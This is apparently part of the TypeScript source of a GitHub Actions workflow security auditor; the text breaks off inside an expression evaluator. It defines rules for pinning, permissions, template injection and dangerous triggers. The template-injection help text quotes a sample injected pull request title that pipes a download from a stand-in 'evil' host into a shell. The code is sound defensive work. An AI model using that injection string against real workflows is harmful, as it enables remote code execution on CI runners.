import * as YAML from 'yaml';
import { ExpressionNode, ExpressionSyntaxError, parseExpression } from './expression-parser';
import { expressionSpans } from './expression-scan';
import { walkSteps, walkWorkflow } from './taint';
import { TrustOptions, untrustedInputOf } from './untrusted-input';
import { pinnedByReference } from '../core/image-pinning';

/**
 * `slipway audit`: security rules over GitHub workflow files and composite
 * actions, generated or written by hand. The rule set follows zizmor's
 * audits; template injection reuses the expression parser and the untrusted
 * input analysis that synthesis applies.
 *
 * @see https://docs.zizmor.sh/audits/
 * @internal
 */

/** A rule of `slipway audit`. @internal */
export interface AuditRule {
  readonly id: string;
  /** One line: what the rule finds. */
  readonly summary: string;
  /** Why it matters, and the fix. */
  readonly help: string;
  /** SARIF level. */
  readonly level: 'error' | 'warning';
  /** GitHub code scanning's security severity (0-10). */
  readonly securitySeverity: string;
}

/** The rules, in the order findings are listed by rule. @internal */
export const AUDIT_RULES: readonly AuditRule[] = [
  {
    id: 'unpinned-uses',
    summary: 'An action or reusable workflow is not pinned to a full commit SHA, or a docker:// action image has no digest',
    help: 'A tag or branch can be moved to other code after review. Pin `uses:` to the 40-hex commit with the version in a comment (`owner/repo@<sha> # v4.2.2`; `npx slipway pin` resolves it) and `docker://` images to `@sha256:<digest>`.',
    level: 'error',
    securitySeverity: '7.5',
  },
  {
    id: 'template-injection',
    summary: 'Untrusted text is pasted into a `run:` script or a github-script `script:` by a `${{ }}` expression',
    help: 'GitHub substitutes `${{ }}` before the shell runs, so a pull request title such as `"; curl evil | sh #` becomes code. Put the value in the step\'s `env:` and read it as data (`"$PR_TITLE"`, `process.env.PR_TITLE`). This includes `env.X`, `steps.s.outputs.o`, `needs.j.outputs.o` and `matrix.*` that hold untrusted text.',
    level: 'error',
    securitySeverity: '9.0',
  },
  {
    id: 'excessive-permissions',
    summary: 'The workflow has no top-level `permissions`, grants `write-all`, or gives write scopes to a job that pull requests, comments or workflow_run can start',
    help: 'Without `permissions:` the token gets the repository default, often write to everything. Declare `permissions: { contents: read }` at the top and grant write scopes per job, only in jobs that untrusted events cannot run (e.g. `if: github.event_name != \'pull_request\'`).',
    level: 'error',
    securitySeverity: '7.0',
  },
  {
    id: 'credential-persistence',
    summary: '`actions/checkout` keeps the token in `.git/config` in a job that does not push',
    help: 'Every later step can read the persisted token, and an upload of the workspace can carry it away. Set `with: { persist-credentials: false }` unless the job runs `git push`.',
    level: 'warning',
    securitySeverity: '5.0',
  },
  {
    id: 'dangerous-trigger',
    summary: 'A `pull_request_target` or `workflow_run` workflow checks out or runs pull request code',
    help: 'These events run with the base repository\'s secrets and a write token. Checking out the pull request head (or downloading its artifacts) and running it hands both to the pull request author. Run untrusted code under `pull_request`, and keep privileged workflows to data that is never executed.',
    level: 'error',
    securitySeverity: '9.0',
  },
  {
    id: 'cache-poisoning',
    summary: 'A release or publish job restores a dependency cache',
    help: 'A cache entry written by a less trusted run is restored into the build that publishes or deploys. Drop `actions/cache` and `cache:`/`enable-cache:` inputs from jobs that run on tags/releases or that deploy or publish with write scopes or `id-token: write`.',
    level: 'warning',
    securitySeverity: '6.0',
  },
  {
    id: 'mutable-image',
    summary: 'A job container, service, `docker run` or `*_IMAGE` step variable image is referenced by tag (or `latest`), not by digest',
    help: 'A tag can be pushed again with other content. Reference the image as `name:tag@sha256:<digest>`.',
    level: 'warning',
    securitySeverity: '5.0',
  },
  {
    id: 'secrets-to-third-party',
    summary: 'A job that pull requests can start passes a secret to a third-party action',
    help: 'Code from outside `actions/` and `github/` receives the secret on pull request runs. Pin and review the action, pass the secret only in jobs that pull requests cannot start, or use a first-party alternative.',
    level: 'warning',
    securitySeverity: '6.5',
  },
];

/** A finding: a rule broken at a place in a file. @internal */
export interface AuditFinding {
  readonly rule: string;
  readonly file: string;
  /** 1-based. */
  readonly line: number;
  /** 1-based. */
  readonly column: number;
  /** What is wrong here, and the fix. */
  readonly message: string;
}

/** The comment that silences findings on its line or the next: `# slipway-audit: ignore[rule, rule]`. @internal */
export const IGNORE_COMMENT = /#\s*slipway-audit:\s*ignore\[([a-z0-9_,\s-]*)\]/;
/** The comment that silences a rule in the whole file: `# slipway-audit: ignore-file[rule]`. @internal */
export const IGNORE_FILE_COMMENT = /#\s*slipway-audit:\s*ignore-file\[([a-z0-9_,\s-]*)\]/;

const PR_EVENTS = ['pull_request', 'pull_request_target', 'issue_comment', 'workflow_run', 'pull_request_review', 'pull_request_review_comment'];
const PRIVILEGED_PR_EVENTS = ['pull_request_target', 'workflow_run'];
/** PR events that run with the repository's secrets whoever opened the pull request (pull_request withholds them from forks). */
const SECRET_PR_EVENTS = ['pull_request_target', 'workflow_run', 'issue_comment'];

type Mapping = { readonly [key: string]: unknown };
const isMapping = (x: unknown): x is Mapping => x !== null && typeof x === 'object' && !Array.isArray(x);

/** A YAML file with positions. */
class Source {
  public readonly lines: string[];
  private readonly counter = new YAML.LineCounter();
  public readonly doc: YAML.Document.Parsed;

  constructor(public readonly file: string, public readonly text: string) {
    this.doc = YAML.parseDocument(text, { lineCounter: this.counter });
    this.lines = text.split('\n');
  }

  /** The node at a key path (strings for map keys, numbers for sequence items). */
  node(path: ReadonlyArray<string | number>): YAML.Node | undefined {
    let n: unknown = this.doc.contents;
    for (const k of path) {
      if (YAML.isMap(n) || YAML.isSeq(n)) n = n.get(k, true);
      else return undefined;
    }
    return YAML.isNode(n) ? n : undefined;
  }

  /** The position of a node (the value of a key path), or of its key when asked. */
  position(path: ReadonlyArray<string | number>, key = false): { line: number; column: number } {
    for (let p = [...path]; p.length > 0; p = p.slice(0, -1)) {
      const parent = this.node(p.slice(0, -1));
      if (key && YAML.isMap(parent)) {
        const pair = parent.items.find((it) => YAML.isScalar(it.key) && it.key.value === p[p.length - 1]);
        const k = pair?.key;
        if (YAML.isNode(k) && k.range) return this.pos(k.range[0]);
      }
      const n = this.node(p);
      if (n?.range) return this.pos(n.range[0]);
      key = true;
    }
    return { line: 1, column: 1 };
  }

  pos(offset: number): { line: number; column: number } {
    const { line, col } = this.counter.linePos(offset);
    return { line, column: col };
  }

  /**
   * The position of `offset` in the value of the string scalar at `path`:
   * exact for block scalars (`|`) and plain or quoted one-line values.
   */
  positionIn(path: ReadonlyArray<string | number>, offset: number): { line: number; column: number } {
    const n = this.node(path);
    if (!YAML.isScalar(n) || !n.range || typeof n.value !== 'string') return this.position(path);
    const start = this.pos(n.range[0]);
    const before = n.value.slice(0, offset);
    const row = before.split('\n').length - 1;
    const col = before.length - (before.lastIndexOf('\n') + 1);
    if (n.type === 'BLOCK_LITERAL' || n.type === 'BLOCK_FOLDED') {
      const line = start.line + 1 + row;
      // the block's indentation is that of its first non-blank line; deeper lines keep the rest in the value
      const first = this.lines.slice(start.line).find((l) => l.trim() !== '') ?? '';
      const indent = /^ */.exec(first)![0].length;
      return { line, column: indent + col + 1 };
    }
    if (row === 0) return { line: start.line, column: start.column + col + (n.type === 'PLAIN' ? 0 : 1) };
    return start;
  }
}

/** The ids of the rules a file's comments silence at each line, and in the whole file. */
function ignores(lines: readonly string[]): { byLine: Map<number, Set<string>>; file: Set<string> } {
  const byLine = new Map<number, Set<string>>();
  const file = new Set<string>();
  const ids = (s: string) => s.split(',').map((x) => x.trim()).filter((x) => x !== '');
  lines.forEach((text, i) => {
    const f = IGNORE_FILE_COMMENT.exec(text);
    if (f) for (const id of ids(f[1])) file.add(id);
    const m = IGNORE_COMMENT.exec(text);
    if (!m) return;
    // a comment alone on its line applies to the next line; after code, to its own line
    const line = text.trim().startsWith('#') ? i + 2 : i + 1;
    byLine.set(line, new Set([...(byLine.get(line) ?? []), ...ids(m[1])]));
  });
  return { byLine, file };
}

/** Unknown rule ids in the ignore comments of a file, as problems. @internal */
export function ignoreProblems(file: string, text: string): string[] {
  const known = new Set(AUDIT_RULES.map((r) => r.id));
  const out: string[] = [];
  text.split('\n').forEach((line, i) => {
    for (const re of [IGNORE_COMMENT, IGNORE_FILE_COMMENT]) {
      const m = re.exec(line);
      if (!m) continue;
      for (const id of m[1].split(',').map((x) => x.trim()).filter((x) => x !== '')) {
        if (!known.has(id)) out.push(`${file}:${i + 1}: unknown rule "${id}" in a slipway-audit comment; rules: ${[...known].join(', ')}`);
      }
    }
  });
  return out;
}

/** What an audit needs besides the file. @internal */
export interface AuditContext {
  /**
   * Reads a file of the repository, or undefined when absent: scripts a step
   * runs, and reusable workflows a job calls (`./.github/workflows/<file>`),
   * whose outputs may carry untrusted text.
   */
  readonly readRepoFile?: (relativePath: string) => string | undefined;
}

/**
 * Audits one workflow file or composite action (`action.yml`). A file that
 * is not YAML, or neither a workflow nor an action, gives no findings; the
 * caller reports parse errors from {@link parseProblems}.
 * @internal
 */
export function auditFile(file: string, text: string, context: AuditContext = {}): AuditFinding[] {
  const src = new Source(file, text);
  if (src.doc.errors.length > 0) return [];
  const root = src.doc.toJS() as unknown;
  if (!isMapping(root)) return [];
  const findings: AuditFinding[] = [];
  const add = (rule: string, at: { line: number; column: number }, message: string) => findings.push({ rule, file, ...at, message });
  if (isMapping(root.runs) && !('jobs' in root)) auditAction(src, root, add);
  else if (isMapping(root.jobs)) auditWorkflow(src, root, add, context);
  const { byLine, file: fileIgnores } = ignores(src.lines);
  return findings
    .filter((f) => !fileIgnores.has(f.rule) && !byLine.get(f.line)?.has(f.rule))
    .sort((a, b) => a.line - b.line || a.column - b.column || a.rule.localeCompare(b.rule));
}

/** YAML syntax errors of a file, as `file:line:col: message`. @internal */
export function parseProblems(file: string, text: string): string[] {
  const counter = new YAML.LineCounter();
  const doc = YAML.parseDocument(text, { lineCounter: counter });
  return doc.errors.map((e) => {
    const { line, col } = counter.linePos(e.pos[0]);
    return `${file}:${line}:${col}: ${e.message.split('\n')[0]}`;
  });
}

type Add = (rule: string, at: { line: number; column: number }, message: string) => void;

function auditAction(src: Source, root: Mapping, add: Add): void {
  const runs = root.runs as Mapping;
  const steps = Array.isArray(runs.steps) ? runs.steps : [];
  // a caller passes inputs, possibly from event text: they are untrusted here
  walkSteps(steps, { untrustedInputs: true }, [], ({ step, index, trust }) => {
    const at: Array<string | number> = ['runs', 'steps', index];
    stepRules(src, at, step, trust, add);
  });
}

/** The events of `on:` (a string, a list or a mapping). */
function eventsOf(on: unknown): string[] {
  if (typeof on === 'string') return [on];
  if (Array.isArray(on)) return on.map(String);
  if (isMapping(on)) return Object.keys(on);
  return [];
}

function auditWorkflow(src: Source, root: Mapping, add: Add, context: AuditContext): void {
  const on = root.on ?? (root as { true?: unknown }).true;
  const events = eventsOf(on);
  const trust: TrustOptions = { untrustedInputs: events.includes('workflow_call') };
  const jobs = root.jobs as Mapping;
  const reach = reachability(jobs, events);

  // excessive-permissions: top level
  const allJobsDeclare = Object.values(jobs).every((j) => isMapping(j) && 'permissions' in j);
  if (!('permissions' in root) && !allJobsDeclare) {
    add('excessive-permissions', src.position(['jobs'], true), 'the workflow declares no top-level "permissions", so every job without its own gets the repository\'s default token scopes; add "permissions: { contents: read }" at the top and grant more per job');
  }
  if (root.permissions === 'write-all') {
    add('excessive-permissions', src.position(['permissions'], true), '"permissions: write-all" grants every scope to every job; list the scopes the jobs need (e.g. "contents: read")');
  }

  walkWorkflow(root, trust, (jobId, _job, { step, location, trust: stepTrust }) => {
    stepRules(src, ['jobs', jobId, 'steps', ...location], step, stepTrust, add, context);
  }, callResolver(context));

  for (const [id, raw] of Object.entries(jobs)) {
    if (!isMapping(raw)) continue;
    const job = raw;
    const path = ['jobs', id];
    const prEvents = PR_EVENTS.filter((e) => reach.get(id)?.has(e));
    const perms = 'permissions' in job ? job.permissions : root.permissions;
    const writes = writeScopes(perms);
    if (job.permissions === 'write-all') {
      add('excessive-permissions', src.position([...path, 'permissions'], true), `job "${id}" has "permissions: write-all"; list the scopes it needs`);
    } else if (prEvents.length > 0 && writes.length > 0 && runsRepositoryCode(job)) {
      const at = 'permissions' in job ? src.position([...path, 'permissions'], true) : src.position(path, true);
      add('excessive-permissions', at, `job "${id}" can run on ${prEvents.map((e) => `"${e}"`).join(', ')} and holds ${writes.map((w) => `"${w}: write"`).join(', ')}; move the write scopes to a job that only runs for trusted events (e.g. "if: github.event_name != '${prEvents[0]}'"), or drop them`);
    }

    // uses: of a reusable workflow
    if (typeof job.uses === 'string') unpinned(src, [...path, 'uses'], job.uses, add);

    const steps = Array.isArray(job.steps) ? job.steps.filter(isMapping) : [];
    const rawSteps = Array.isArray(job.steps) ? job.steps : [];
    const pushes = jobPushes(steps, context);
    const publishing = isPublishing(id, job, events, on, writes, perms);
    const privileged = PRIVILEGED_PR_EVENTS.filter((e) => reach.get(id)?.has(e));
    rawSteps.forEach((step: unknown, i: number) => {
      if (!isMapping(step)) return;
      const at = [...path, 'steps', i];
      const uses = typeof step.uses === 'string' ? step.uses : '';
      const action = uses.split('@')[0].toLowerCase();
      const w = isMapping(step.with) ? step.with : {};

      if (action === 'actions/checkout') {
        const persist = w['persist-credentials'];
        if (persist !== false && persist !== 'false' && !pushes) {
          add('credential-persistence', src.position([...at, 'uses']), `job "${id}" checks out with the token persisted in .git/config but never runs "git push"; add "with: { persist-credentials: false }"`);
        }
        const ref = typeof w.ref === 'string' ? w.ref : '';
        if (privileged.length > 0 && /pull_request\.head|head_ref|workflow_run\.head|refs\/pull\/|\.pull_requests/i.test(ref)) {
          add('dangerous-trigger', src.position([...at, 'with', 'ref'], true), `job "${id}" runs on ${privileged.map((e) => `"${e}"`).join(', ')} and checks out the pull request's code (ref: ${ref}), with the base repository's secrets and write token; run that code in a "pull_request" workflow instead`);
        }
      }
      if (privileged.length > 0 && isMapping(on) && 'workflow_run' in on && /download-artifact/i.test(action) && ('run-id' in w || 'run_id' in w)) {
        add('dangerous-trigger', src.position([...at, 'uses']), `job "${id}" downloads the artifacts of the triggering run, which a pull request controls; treat them as data (never execute or extract them into the workspace unchecked) and run the build in the "pull_request" workflow`);
      }
      if (privileged.length > 0 && typeof step.run === 'string' && /\bgh\s+pr\s+checkout\b|git\s+fetch\b[^\n]*\bpull\/|git\s+checkout\b[^\n]*(head_ref|pull_request\.head)/i.test(step.run)) {
        add('dangerous-trigger', src.position([...at, 'run']), `job "${id}" runs on ${privileged.map((e) => `"${e}"`).join(', ')} and fetches the pull request's code in its script; run that code in a "pull_request" workflow instead`);
      }

      if (publishing) {
        if (/^actions\/cache(\/restore)?$/.test(action)) {
          add('cache-poisoning', src.position([...at, 'uses']), `job "${id}" ${publishing} and restores "${uses.split('@')[0]}"; a cache entry written by a less trusted run would end up in what it ships. Remove the cache step from this job`);
        } else {
          for (const key of ['cache', 'enable-cache']) {
            const v = w[key];
            if (v !== undefined && v !== false && v !== '' && v !== 'false') {
              add('cache-poisoning', src.position([...at, 'with', key], true), `job "${id}" ${publishing} and "${uses.split('@')[0]}" restores a cache ("${key}: ${v}"); remove "${key}" from this job`);
            }
          }
        }
      }

      const secretEvents = SECRET_PR_EVENTS.filter((e) => reach.get(id)?.has(e));
      if (secretEvents.length > 0 && uses !== '' && !isFirstParty(uses)) {
        for (const key of ['with', 'env'] as const) {
          const values = isMapping(step[key]) ? step[key] as Mapping : {};
          for (const [name, v] of Object.entries(values)) {
            const secrets = secretsOf(v);
            if (secrets.length === 0) continue;
            add('secrets-to-third-party', src.position([...at, key, name], true), `job "${id}" can run on ${secretEvents.map((e) => `"${e}"`).join(', ')} and passes ${secrets.map((s) => `secrets.${s}`).join(', ')} to the third-party action "${uses.split('@')[0]}" (${key}.${name}); pass it only in a job that pull requests cannot start`);
          }
        }
      }
    });

    // mutable-image
    const container = job.container;
    const image = typeof container === 'string' ? container : isMapping(container) ? container.image : undefined;
    if (typeof image === 'string') mutableImage(src, typeof container === 'string' ? [...path, 'container'] : [...path, 'container', 'image'], image, `job "${id}" container`, add);
    if (isMapping(job.services)) {
      for (const [name, svc] of Object.entries(job.services)) {
        if (isMapping(svc) && typeof svc.image === 'string') mutableImage(src, [...path, 'services', name, 'image'], svc.image, `job "${id}" service "${name}"`, add);
      }
    }
  }
}

/**
 * Reads the reusable workflows of the repository that jobs call
 * (`uses: ./.github/workflows/<file>`), for the outputs that carry untrusted
 * text; a file that is absent or not YAML is not followed.
 */
function callResolver(context: AuditContext): (uses: string) => Mapping | undefined {
  const cache = new Map<string, Mapping | undefined>();
  return (uses) => {
    if (!/^\.\/\.github\/workflows\/[^@]+\.ya?ml$/.test(uses)) return undefined;
    if (!cache.has(uses)) {
      const text = context.readRepoFile?.(uses.slice(2));
      let doc: unknown;
      try {
        doc = text === undefined ? undefined : YAML.parse(text);
      } catch {
        doc = undefined;
      }
      cache.set(uses, isMapping(doc) ? doc : undefined);
    }
    return cache.get(uses);
  };
}

/** Rules for one step: pinning, template injection, and the images a run step starts. */
function stepRules(src: Source, at: Array<string | number>, step: Mapping, trust: TrustOptions, add: Add, context: AuditContext = {}): void {
  if (typeof step.uses === 'string') unpinned(src, [...at, 'uses'], step.uses, add);
  if (typeof step.run === 'string') injection(src, [...at, 'run'], step.run, trust, 'its "run" script', add);
  if (typeof step.run === 'string') runImages(src, at, step, add, context);
  const w = isMapping(step.with) ? step.with : {};
  if (typeof step.uses === 'string' && /^actions\/github-script@/i.test(step.uses) && typeof w.script === 'string') {
    injection(src, [...at, 'with', 'script'], w.script, trust, 'its github-script "script"', add);
  }
}

function injection(src: Source, path: Array<string | number>, script: string, trust: TrustOptions, where: string, add: Add): void {
  for (const span of expressionSpans(script)) {
    const env = untrustedInputOf(span.text, trust);
    if (!env) continue;
    const fix = env === 'UNPARSED'
      ? 'it does not parse, so it cannot be shown safe; fix its syntax'
      : `put it in the step's env (${env}: \${{ ${span.text} }}) and read "$${env}" (or process.env.${env} in github-script)`;
    add('template-injection', src.positionIn(path, span.start), `\${{ ${span.text} }} pastes untrusted text into ${where}; ${fix}`);
  }
}

function unpinned(src: Source, path: Array<string | number>, uses: string, add: Add): void {
  if (uses.startsWith('./') || uses.startsWith('.\\')) return;
  if (uses.startsWith('docker://')) {
    if (!pinnedByReference(uses)) {
      add('unpinned-uses', src.position(path), `"${uses}" names a Docker image by tag; pin it by digest: "${uses.replace(/@.*$/, '')}@sha256:<digest>"`);
    }
    return;
  }
  const at = uses.lastIndexOf('@');
  const ref = at < 0 ? '' : uses.slice(at + 1);
  if (/^[0-9a-f]{40}$/i.test(ref) || /\$\{\{/.test(uses)) return;
  const repo = at < 0 ? uses : uses.slice(0, at);
  add('unpinned-uses', src.position(path), `"${uses}" is not pinned to a commit SHA, so a moved ${ref ? `"${ref}"` : 'default branch'} changes what runs; use "${repo}@<40-hex commit> # ${ref || 'version'}" (npx slipway pin resolves it)`);
}

/**
 * mutable-image in a run step: the image of each `docker run` of its script,
 * and the value of each `env:` variable named `*_IMAGE` that the script, or a
 * repository script it runs, starts a container from (`docker run "$X_IMAGE"`,
 * `kubectl run --image="$X_IMAGE"`), as slipway's deploy scripts do with
 * `SLIPWAY_CHECK_IMAGE`. An image given by a shell variable the step does not
 * set, or by an expression, is not judged.
 */
function runImages(src: Source, at: Array<string | number>, step: Mapping, add: Add, context: AuditContext): void {
  const label = typeof step.name === 'string' ? step.name : typeof step.id === 'string' ? step.id : `#${Number(at[at.length - 1]) + 1}`;
  const where = `${at[0] === 'jobs' ? `job "${at[1]}" ` : ''}step "${label}"`;
  const run = step.run as string;
  for (const { image: word, offset } of dockerRunImages(run)) {
    // a quoted literal ("alpine:3.20") is judged without its quotes
    const quoted = /^(["'])(.*)\1$/.exec(word);
    const image = quoted ? quoted[2] : word;
    if (IMAGE_REF.test(image) && !pinnedByReference(image)) {
      mutableImage(src, [...at, 'run'], image, `${where}: docker run`, add, src.positionIn([...at, 'run'], offset + (quoted ? 1 : 0)));
    }
  }
  const env = isMapping(step.env) ? step.env : {};
  const names = Object.keys(env).filter((n) => /_IMAGE$/.test(n) && typeof env[n] === 'string' && IMAGE_REF.test((env[n] as string).trim()));
  if (names.length === 0) return;
  const scripts = [run, ...repositoryScripts(run).map((f) => context.readRepoFile?.(f) ?? '')];
  const used = new Set(scripts.flatMap(imageVariables));
  for (const name of names.filter((n) => used.has(n))) {
    mutableImage(src, [...at, 'env', name], (env[name] as string).trim(), `${where}: env ${name}`, add);
  }
}

/** A literal image reference (no shell variable, quote or expression). */
const IMAGE_REF = /^[A-Za-z0-9][A-Za-z0-9._\-/:@]*$/;

/** The repository scripts a run script runs (`bash .github/x.sh`, `./scripts/y.sh`). */
function repositoryScripts(run: string): string[] {
  return [...run.matchAll(/(?:^|[\s;&|(])(?:bash\s+|sh\s+|\.\/)?((?:\.github|scripts?)\/[A-Za-z0-9_./-]+\.(?:sh|bash))/g)].map((m) => m[1]);
}

/** The shell variables a script starts containers from: the image word of `docker run`, and `--image` of `kubectl run`. */
function imageVariables(script: string): string[] {
  const variable = (word: string) => /^"?\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?"?$/.exec(word)?.[1];
  const out = dockerRunImages(script).map((r) => variable(r.image));
  for (const m of script.matchAll(/\bkubectl\s+run\b(?:[^\n]|\\\n)*?\s--image(?:=|\s+)(\S+)/g)) out.push(variable(m[1]));
  return out.filter((v): v is string => v !== undefined);
}

/** `docker run` options that take no value (the others take the next word unless given as `--opt=value`). */
const DOCKER_RUN_SWITCHES = new Set([
  '--rm', '--init', '--interactive', '--tty', '--detach', '--privileged', '--read-only', '--publish-all',
  '--no-healthcheck', '--oom-kill-disable', '--sig-proxy', '--quiet', '--use-api-socket',
]);

/**
 * The image word of each `docker run` (or `docker container run`) in a
 * shell script, with its offset: the first word after the options, as
 * written (a literal reference, or a variable such as `"$IMAGE"`). Lines
 * that are comments are skipped.
 */
function dockerRunImages(script: string): Array<{ image: string; offset: number }> {
  const out: Array<{ image: string; offset: number }> = [];
  const command = /\bdocker\s+(?:container\s+)?run\b/g;
  for (let m = command.exec(script); m; m = command.exec(script)) {
    const lineStart = script.lastIndexOf('\n', m.index) + 1;
    if (/^\s*#/.test(script.slice(lineStart, m.index))) continue;
    let i = m.index + m[0].length;
    let expectValue = false;
    for (;;) {
      // blanks and line continuations; the command ends at a newline or an operator
      while (i < script.length && (script[i] === ' ' || script[i] === '\t' || (script[i] === '\\' && script[i + 1] === '\n'))) i += script[i] === '\\' ? 2 : 1;
      if (i >= script.length || /[\n;|&)]/.test(script[i])) break;
      const start = i;
      while (i < script.length && !/\s/.test(script[i])) {
        const q = script[i];
        if (q === '"' || q === "'") {
          const end = script.indexOf(q, i + 1);
          i = end < 0 ? script.length : end + 1;
        } else {
          i++;
        }
      }
      const word = script.slice(start, i);
      if (expectValue) {
        expectValue = false;
      } else if (word.startsWith('--')) {
        expectValue = !word.includes('=') && !DOCKER_RUN_SWITCHES.has(word);
      } else if (/^-[A-Za-z]+$/.test(word)) {
        // -i, -t, -d, -P, -q and their combinations are switches; another short option takes a value
        expectValue = !/^-[itdPq]+$/.test(word);
      } else if (word.startsWith('-')) {
        continue; // -v=..., -e=...: a value attached
      } else {
        out.push({ image: word, offset: start });
        break;
      }
    }
  }
  return out;
}

function mutableImage(src: Source, path: Array<string | number>, image: string, what: string, add: Add, at?: { line: number; column: number }): void {
  if (pinnedByReference(image)) return;
  const tag = /:([^/:@]+)$/.exec(image)?.[1];
  add('mutable-image', at ?? src.position(path), `${what} image "${image}" is ${tag && tag !== 'latest' ? `referenced by the tag "${tag}", which can be pushed again` : 'the moving "latest" tag'}; pin it by digest: "${image}@sha256:<digest>"`);
}

/** Whether a job runs code of the repository (or of the pull request): it checks out, or runs a local action. */
function runsRepositoryCode(job: Mapping): boolean {
  const steps = Array.isArray(job.steps) ? job.steps.filter(isMapping) : [];
  return steps.some((s) => typeof s.uses === 'string' && (/^actions\/checkout@/i.test(s.uses) || s.uses.startsWith('./')));
}

function isFirstParty(uses: string): boolean {
  return uses.startsWith('./') || /^(actions|github)\//i.test(uses);
}

/** The names of the secrets a value reads, other than the job's own token. */
function secretsOf(value: unknown): string[] {
  if (typeof value !== 'string') return [];
  const out: string[] = [];
  for (const span of expressionSpans(value)) {
    for (const m of span.text.matchAll(/(?<![A-Za-z0-9_.-])secrets\.([A-Za-z_][A-Za-z0-9_-]*)/gi)) {
      if (m[1].toUpperCase() !== 'GITHUB_TOKEN' && !out.includes(m[1])) out.push(m[1]);
    }
    if (/(?<![A-Za-z0-9_.-])secrets\s*\[/i.test(span.text) || /tojson\(\s*secrets\s*\)/i.test(span.text)) out.push('*');
  }
  return out;
}

/** The write scopes of a `permissions:` value. */
function writeScopes(perms: unknown): string[] {
  if (perms === 'write-all') return ['*'];
  if (!isMapping(perms)) return [];
  return Object.entries(perms).filter(([, v]) => v === 'write').map(([k]) => k).sort();
}

/** Whether any step runs `git push`, directly or in a repository script it runs. */
function jobPushes(steps: readonly Mapping[], context: AuditContext): boolean {
  return steps.some((s) => {
    if (typeof s.run !== 'string') return false;
    if (/\bgit\s+push\b/.test(s.run)) return true;
    for (const file of repositoryScripts(s.run)) {
      const text = context.readRepoFile?.(file);
      if (text && /\bgit\s+push\b/.test(text)) return true;
    }
    return false;
  });
}

/**
 * Why a job publishes or deploys (for cache-poisoning), or undefined: it
 * runs on tags or releases, or its id, name or environment says release,
 * publish or deploy, and it holds write scopes or `id-token: write`.
 */
function isPublishing(id: string, job: Mapping, events: string[], on: unknown, writes: string[], perms: unknown): string | undefined {
  if (writes.length === 0 && !(isMapping(perms) && perms['id-token'] === 'write')) return undefined;
  const env = isMapping(job.environment) ? job.environment.name : job.environment;
  const words = [id, typeof job.name === 'string' ? job.name : '', typeof env === 'string' ? env : ''].join(' ');
  if (/release|publish|deploy/i.test(words)) return `releases, publishes or deploys ("${/release|publish|deploy/i.exec(words)![0]}") with ${writes.map((w) => `${w}: write`).join(', ')}`;
  const onTags = isMapping(on) && isMapping(on.push) && 'tags' in on.push;
  if (events.includes('release') || onTags) return `runs on ${onTags ? 'tag pushes' : 'releases'} with ${writes.map((w) => `${w}: write`).join(', ')}`;
  return undefined;
}

/**
 * For each job, the events of `events` that can start it: its `if:` does
 * not rule the event out (`github.event_name`, and `github.ref` for
 * `pull_request`, evaluated with everything else unknown), and every job it
 * needs can run too unless its `if:` has a status function (`always()`).
 */
function reachability(jobs: Mapping, events: string[]): Map<string, Set<string>> {
  const out = new Map<string, Set<string>>();
  const visiting = new Set<string>();
  const of = (id: string): Set<string> => {
    const done = out.get(id);
    if (done) return done;
    if (visiting.has(id)) return new Set(events);
    visiting.add(id);
    const job = jobs[id];
    const result = new Set<string>();
    if (isMapping(job)) {
      const cond = typeof job.if === 'string' ? job.if : undefined;
      const needs = typeof job.needs === 'string' ? [job.needs] : Array.isArray(job.needs) ? job.needs.map(String) : [];
      const statusOverride = cond !== undefined && /\b(always|failure|cancelled)\s*\(/i.test(cond);
      for (const e of events) {
        // a needed job that cannot run for the event is "skipped" in needs.<job>.result
        const skipped = (n: string) => (n in jobs && needs.includes(n) && !of(n).has(e) ? 'skipped' : undefined);
        if (cond !== undefined && conditionFor(cond, e, skipped) === false) continue;
        if (!statusOverride && needs.some((n) => n in jobs && !of(n).has(e))) continue;
        result.add(e);
      }
    }
    visiting.delete(id);
    out.set(id, result);
    return result;
  };
  for (const id of Object.keys(jobs)) of(id);
  return out;
}

type Known = { value: unknown } | undefined;

/** The value of a condition for an event (exported for tests): true, false, or undefined when it depends on more than the event. */
export function conditionFor(
  condition: string, event: string, needsResult: (job: string) => string | undefined = () => undefined,
): boolean | undefined {
  const spans = expressionSpans(condition.trim());
  const whole = spans.length === 1 && spans[0].start === 0 && spans[0].end === condition.trim().length;
  const text = whole ? spans[0].text : spans.length === 0 ? condition : undefined;
  if (text === undefined) return undefined;
  let node: ExpressionNode;
  try {
    node = parseExpression(text);
  } catch (e) {
    if (e instanceof ExpressionSyntaxError) return undefined;
    throw e;
  }
  const v = evaluate(node, { event, needsResult });
  return v === undefined ? undefined : truthy(v.value);
}

function truthy(v: unknown): boolean {
  return !(v === false || v === null || v === 0 || v === '' || v === undefined);
}

interface Facts {
  readonly event: string;
  readonly needsResult: (job: string) => string | undefined;
}

function evaluate(node: ExpressionNode, facts: Facts): Known {
  const { event } = facts;
  switch (node.kind) {
    case 'literal': return { value: node.value };
    case 'context': return undefined;
    case 'member':
      if (node.object.kind === 'context' && node.object.name === 'github' && node.key === 'event_name') return { value: event };
      if (node.key === 'result' && node.object.kind === 'member' && node.object.key && node.object.object.kind === 'context' && node.object.object.name === 'needs') {
        const r = facts.needsResult(node.object.key);
        return r === undefined ? undefined : { value: r };
      }
      return undefined;
    case 'not': {
      const v = evaluate(node.operand, facts);
      return v === undefined ? undefined : { value: !truthy(v.value) };
    }
    case 'call': {
      if ((node.name === 'startswith' || node.name === 'contains') && node.args.length === 2) {
        const [a, b] = node.args;
        const pref = refPrefix(a, event);
        const lit = b.kind === 'literal' && typeof b.value === 'string' ? b.value : undefined;
        if (node.name === 'startswith' && pref !== undefined && lit !== undefined && !lit.toLowerCase().startsWith(pref) && !pref.startsWith(lit.toLowerCase())) return { value: false };
        if (node.name === 'contains' && a.kind === 'literal' && typeof a.value === 'string' && lit === undefined) {
          // contains('push, release', github.event_name) style lists are read as a substring test
          const e = evaluate(b, facts);
          if (e && typeof e.value === 'string') return { value: a.value.toLowerCase().includes(e.value.toLowerCase()) };
        }
      }
      return undefined;
    }
    case 'binary': {
      const l = evaluate(node.left, facts);
      const r = evaluate(node.right, facts);
      if (node.op === '&&') {
        if ((l && !truthy(l.value)) || (r && !truthy(r.value))) return { value: false };
        return l && r ? { value: true } : undefined;
      }
      if (node.op === '||') {
        if ((l && truthy(l.value)) || (r && truthy(r.value))) return { value: true };
        return l && r ? { value: false } : undefined;
      }
      if (node.op === '==' || node.op === '!=') {
        let eq: boolean | undefined;
        if (l && r) {
